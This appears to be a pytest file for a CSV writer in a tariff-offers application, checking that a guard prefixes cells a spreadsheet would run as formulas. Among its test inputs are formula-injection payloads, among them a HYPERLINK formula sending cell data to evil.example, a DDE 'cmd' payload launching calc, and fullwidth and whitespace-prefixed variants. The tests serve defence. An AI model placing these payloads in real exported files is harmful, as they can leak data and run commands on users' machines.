"""The one CSV writer and its formula guard, as pure functions (offers.csvfile).

The three files written with it (the letter's tariff-lines.csv, an offer's tariff lines exported, the round
report) are tested through their writers in test_letter.py, test_spreadsheets.py and test_report.py.
"""

from __future__ import annotations

import csv
import io
import math
import random
from datetime import date

import pytest

from offers.csvfile import BYTE_ORDER_MARK, Cell, csv_text, formula_safe


def _read(text: str) -> list[list[str]]:
    assert text.startswith(BYTE_ORDER_MARK)
    return list(csv.reader(io.StringIO(text.removeprefix(BYTE_ORDER_MARK), newline="")))


@pytest.mark.parametrize(
    "text",
    [
        "=1+2",
        '=HYPERLINK("http://evil.example/?"&A1, "Click")',
        "+1",
        "-1+2",
        "-",
        "@SUM(A1:A2)",
        "\t=1+2",
        "\r=1+2",
        "\tplain after a tab",
        "\rplain after a carriage return",
        "\nplain after a line feed",
        "=cmd|' /C calc'!A0",
        # Spreadsheets trim leading whitespace on import, then run what follows.
        " =1+2",
        "   +1",
        " -1+2",
        "  @SUM(A1:A2)",
        " \t=1+2",
        "\n=1+2",
        "\u00a0=1+2",
        "\u3000=1+2",
        # The fullwidth signs (U+FF1D, U+FF0B, U+FF0D, U+FF20), which East Asian input takes as the same.
        "＝1+2",
        "＋1",
        "－1+2",
        "＠SUM(A1:A2)",
        ' ＝HYPERLINK("http://evil.example")',
    ],
)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(text: str) -> None:
    assert formula_safe(text) == "'" + text
    assert _read(csv_text([[text, "after"]])) == [["'" + text, "after"]]


@pytest.mark.parametrize(
    "text",
    [
        "",
        "Cheese, other",
        "0201.30",
        "10% fat",
        "'=1+2",
        "a=b",
        "Crème fraîche",
        "≤ 1 kg",
        "1-2",
        " leading space",
        "   ",
        " 1-2",
        "a＝b",
        "１２",  # fullwidth digits are text, not a formula
        "trailing =",
    ],
)
def test_other_text_is_written_as_it_is(text: str) -> None:
    assert formula_safe(text) == text
    assert _read(csv_text([[text, "x"]])) == [[text, "x"]]


def test_numbers_are_numbers_not_guarded_text() -> None:
    row: list[Cell] = [-3, -0.5, 12.0, 12.5, 0, -0.0, 1e16, 0.1 + 0.2, None]
    text = csv_text([row])
    assert text == BYTE_ORDER_MARK + "-3,-0.5,12,12.5,0,-0,1e+16,0.30000000000000004,\n"
    # Numbers read back exactly.
    for value in [random.Random(seed).uniform(-1e6, 1e6) for seed in range(200)] + [1 / 3, 5e-324, 1.7e308]:
        assert float(_read(csv_text([[value]]))[0][0]) == value


def test_the_dialect_bom_commas_lf_and_quotes_only_where_needed() -> None:
    rows: list[list[Cell]] = [
        ["hs_code", "description", "rate"],
        ["0201.30", 'Beef, "boneless"', 21.6],
        ["0203.29", "two\nlines", 12],
        ["0406.90", "a lone\rcarriage return", None],
    ]
    text = csv_text(rows)
    assert text == (
        BYTE_ORDER_MARK + "hs_code,description,rate\n"
        '0201.30,"Beef, ""boneless""",21.6\n'
        '0203.29,"two\nlines",12\n'
        '0406.90,"a lone\rcarriage return",\n'
    )
    assert "\r\n" not in text  # one line ending throughout
    assert _read(text) == [[str(c) if c is not None else "" for c in row] for row in rows]
    assert text.encode("utf-8").startswith(b"\xef\xbb\xbf")


def test_the_guard_is_written_once_and_line_breaks_are_quoted() -> None:
    rows: list[list[Cell]] = [["\n=1+2", " ＝1", "a\rb", "a\r\nb", "'=already"]]
    text = csv_text(rows)
    assert text == BYTE_ORDER_MARK + '"\'\n=1+2",\' ＝1,"a\rb","a\r\nb",\'=already\n'
    assert _read(text) == [["'\n=1+2", "' ＝1", "a\rb", "a\r\nb", "'=already"]]


def test_a_guarded_cell_is_quoted_when_it_must_be() -> None:
    text = csv_text([['=HYPERLINK("x", "y")', "-a,b"]])
    assert text == BYTE_ORDER_MARK + '"\'=HYPERLINK(""x"", ""y"")","\'-a,b"\n'
    assert _read(text) == [['\'=HYPERLINK("x", "y")', "'-a,b"]]


def test_edge_rows() -> None:
    assert csv_text([]) == BYTE_ORDER_MARK
    assert _read(csv_text([[""], [None], ["a"]])) == [[""], [""], ["a"]]  # never a blank line


def test_what_a_cell_cannot_take_is_refused() -> None:
    with pytest.raises(TypeError, match="yes/no"):
        csv_text([[True]])
    with pytest.raises(TypeError, match="date"):
        csv_text([[date(2026, 1, 1)]])  # type: ignore[list-item]
    for number in (math.nan, math.inf, -math.inf):
        with pytest.raises(ValueError, match="not a number a CSV file can hold"):
            csv_text([[number]])
